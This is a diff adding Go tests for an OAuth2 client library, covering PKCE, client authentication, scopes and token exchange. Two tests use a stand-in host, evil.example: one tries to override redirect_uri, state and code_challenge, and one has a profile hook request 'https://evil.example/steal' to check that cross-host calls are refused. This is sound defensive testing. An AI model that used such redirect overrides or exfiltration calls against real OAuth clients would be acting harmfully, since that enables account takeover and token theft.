@@ -1,0 +1,179 @@
+package oauth_test
+
+import (
+	"context"
+	"errors"
+	"slices"
+	"testing"
+	"time"
+
+	"github.com/dancecard/dancecard/internal/oauth"
+	"github.com/dancecard/dancecard/internal/oauth/oauthtest"
+)
+
+func TestOAuth2Dance(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name       string
+		opts       []oauthtest.Option
+		setup      func(*oauth.Provider)
+		extra      []string
+		wantScope  string // the scope parameter of the authorization URL
+		wantScopes []string
+		exchanges  int64 // token requests (auto-detection may need two)
+	}{
+		{name: "pkce, client_secret_basic", opts: []oauthtest.Option{oauthtest.WithClientAuth(oauthtest.ClientAuthBasic), oauthtest.WithRequirePKCE()},
+			setup: func(p *oauth.Provider) { p.TokenAuth = oauth.TokenAuthBasic }, wantScope: "read:user", wantScopes: []string{"read:user"}, exchanges: 1},
+		{name: "no pkce, client_secret_post", opts: []oauthtest.Option{oauthtest.WithClientAuth(oauthtest.ClientAuthPost)},
+			setup: func(p *oauth.Provider) { p.PKCE, p.TokenAuth = false, oauth.TokenAuthPost }, wantScope: "read:user", wantScopes: []string{"read:user"}, exchanges: 1},
+		{name: "auto-detected post", opts: []oauthtest.Option{oauthtest.WithClientAuth(oauthtest.ClientAuthPost)},
+			wantScope: "read:user", wantScopes: []string{"read:user"}, exchanges: 2},
+		{name: "form-encoded token response", opts: []oauthtest.Option{oauthtest.WithFormEncodedTokens()},
+			wantScope: "read:user", wantScopes: []string{"read:user"}, exchanges: 1},
+		{name: "extra scopes, de-duplicated", extra: []string{"repo", "read:user", " "},
+			wantScope: "read:user repo", wantScopes: []string{"read:user", "repo"}, exchanges: 1},
+		{name: "comma scope separator", opts: []oauthtest.Option{oauthtest.WithKnobs(oauthtest.Knobs{ScopeSep: ","})},
+			setup:     func(p *oauth.Provider) { p.ScopeSep, p.Scopes = ",", []string{"user", "repo"} },
+			wantScope: "user,repo", wantScopes: []string{"user", "repo"}, exchanges: 1},
+		{name: "granted scopes narrower, comma separated", opts: []oauthtest.Option{oauthtest.WithKnobs(oauthtest.Knobs{GrantedScopes: []string{"user", "gist"}, ScopeSep: ","})},
+			setup: func(p *oauth.Provider) { p.Scopes = []string{"user", "repo"} }, wantScope: "user repo", wantScopes: []string{"user", "gist"}, exchanges: 1},
+		{name: "granted scopes in a form-encoded response", opts: []oauthtest.Option{oauthtest.WithFormEncodedTokens(), oauthtest.WithKnobs(oauthtest.Knobs{GrantedScopes: []string{"a", "b"}, FormEncoded: true})},
+			wantScope: "read:user", wantScopes: []string{"a", "b"}, exchanges: 1},
+		{name: "no scope in the response: what was asked", opts: []oauthtest.Option{oauthtest.WithKnobs(oauthtest.Knobs{OmitScope: true})},
+			extra: []string{"repo"}, wantScope: "read:user repo", wantScopes: []string{"read:user", "repo"}, exchanges: 1},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			srv := oauthtest.NewServer(t, tt.opts...)
+			p := srv.OAuth2Provider("fake")
+			if tt.setup != nil {
+				tt.setup(p)
+			}
+			c := oauth.NewClient(oauth.ClientOptions{})
+			authURL, pending, err := c.Begin(context.Background(), p, callbackFor(p), tt.extra)
+			if err != nil {
+				t.Fatal(err)
+			}
+			q := mustParse(t, authURL).Query()
+			if q.Get("scope") != tt.wantScope || q.Get("state") != pending.State || q.Get("redirect_uri") != callbackFor(p) {
+				t.Errorf("authorization URL %s: scope %q, state %q, redirect_uri %q", authURL, q.Get("scope"), q.Get("state"), q.Get("redirect_uri"))
+			}
+			if (q.Get("code_challenge") != "") != p.PKCE || (p.PKCE && q.Get("code_challenge_method") != "S256") {
+				t.Errorf("PKCE %v but authorization URL %s", p.PKCE, authURL)
+			}
+			if len(pending.State) != 43 || (pending.Verifier != "") != p.PKCE || pending.Nonce != "" {
+				t.Errorf("pending = %+v", pending)
+			}
+			tok, prof, err := c.Finish(context.Background(), p, callbackFor(p), pending, srv.Authorize(t, authURL).Query())
+			if err != nil {
+				t.Fatal(err)
+			}
+			if tok.AccessToken == "" || tok.RefreshToken == "" || tok.TokenType == "" || tok.IDToken != "" {
+				t.Errorf("token = %+v", tok)
+			}
+			if until := time.Until(tok.Expiry); until < 59*time.Minute || until > time.Hour {
+				t.Errorf("expiry in %v, want an hour", until)
+			}
+			if !slices.Equal(tok.Scopes, tt.wantScopes) {
+				t.Errorf("scopes = %q, want %q", tok.Scopes, tt.wantScopes)
+			}
+			if prof != octo(srv) {
+				t.Errorf("profile = %+v, want %+v", prof, octo(srv))
+			}
+			if n := srv.Counts(); n.TokenExchanges != tt.exchanges || n.Userinfo != 1 {
+				t.Errorf("counts = %+v", n)
+			}
+		})
+	}
+}
+
+func TestOAuth2FormPost(t *testing.T) {
+	t.Parallel()
+	srv := oauthtest.NewServer(t)
+	p := srv.OAuth2Provider("apple")
+	p.ResponseMode = "form_post"
+	c := oauth.NewClient(oauth.ClientOptions{})
+	authURL, pending, err := c.Begin(context.Background(), p, callbackFor(p), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := mustParse(t, authURL).Query().Get("response_mode"); got != "form_post" {
+		t.Fatalf("response_mode = %q", got)
+	}
+	cb := srv.AuthorizeCallback(t, authURL)
+	if cb.Method != "POST" || cb.Form.Get("code") == "" || cb.Form.Get("state") != pending.State {
+		t.Fatalf("callback = %+v", cb)
+	}
+	if _, prof, err := c.Finish(context.Background(), p, callbackFor(p), pending, cb.Form); err != nil || prof.ID != "42" {
+		t.Fatalf("Finish = %+v, %v", prof, err)
+	}
+}
+
+func TestOAuth2AuthParamsCannotOverrideTheDance(t *testing.T) {
+	t.Parallel()
+	srv := oauthtest.NewServer(t)
+	p := srv.OAuth2Provider("fake")
+	p.AuthParams = map[string]string{"prompt": "consent", "state": "fixed", "redirect_uri": "https://evil.example/", "code_challenge": "x"}
+	authURL, pending, err := oauth.NewClient(oauth.ClientOptions{}).Begin(context.Background(), p, callbackFor(p), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	q := mustParse(t, authURL).Query()
+	if q.Get("prompt") != "consent" || q.Get("state") != pending.State || q.Get("redirect_uri") != callbackFor(p) || q.Get("code_challenge") == "x" {
+		t.Fatalf("authorization URL %s", authURL)
+	}
+}
+
+func TestOAuth2ProfileFunc(t *testing.T) {
+	t.Parallel()
+	srv := oauthtest.NewServer(t)
+	p := srv.OAuth2Provider("fake")
+	var evilErr error
+	p.ProfileFunc = func(raw []byte, get oauth.Getter) (oauth.Profile, error) {
+		_, evilErr = get("https://evil.example/steal")
+		prof, err := oauth.MapJSON(raw, oauthtest.ProfileMap())
+		if err != nil {
+			return prof, err
+		}
+		echo, err := get(srv.APIBaseURL() + "user/emails?primary=1")
+		if err != nil {
+			return prof, err
+		}
+		doc, _ := oauth.DecodeJSON(echo)
+		prof.Name = oauth.LookupString(doc, "auth") + " " + oauth.LookupString(doc, "path")
+		return prof, nil
+	}
+	_, prof, err := dance(t, oauth.NewClient(oauth.ClientOptions{}), srv, p, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if prof.Name != "Bearer /user/emails" || prof.ID != "42" {
+		t.Errorf("profile = %+v", prof)
+	}
+	if !errors.Is(evilErr, oauth.ErrMisconfigured) {
+		t.Errorf("get on another host = %v, want ErrMisconfigured", evilErr)
+	}
+}
+
+// Without a configured style, only a rejected client is retried the other
+// way; what worked is remembered, and a server error is not retried (it may
+// have consumed the code).
+func TestTokenAuthDetection(t *testing.T) {
+	t.Parallel()
+	srv := oauthtest.NewServer(t, oauthtest.WithClientAuth(oauthtest.ClientAuthPost))
+	p := srv.OAuth2Provider("hub")
+	c := oauth.NewClient(oauth.ClientOptions{})
+	mustDance(t, c, srv, p)
+	mustDance(t, c, srv, p)
+	if n := srv.Counts().TokenExchanges; n != 3 {
+		t.Errorf("%d token requests for two dances, want 3 (one probe)", n)
+	}
+
+	down := oauthtest.NewServer(t, oauthtest.WithKnobs(oauthtest.Knobs{TokenStatus: 500}))
+	_, _, err := dance(t, c, down, down.OAuth2Provider("hub"), nil)
+	wantProviderError(t, err, "token", "", 500)
+	if n := down.Counts().TokenExchanges; n != 1 {
+		t.Errorf("%d token requests after a 500, want 1", n)
+	}
+}
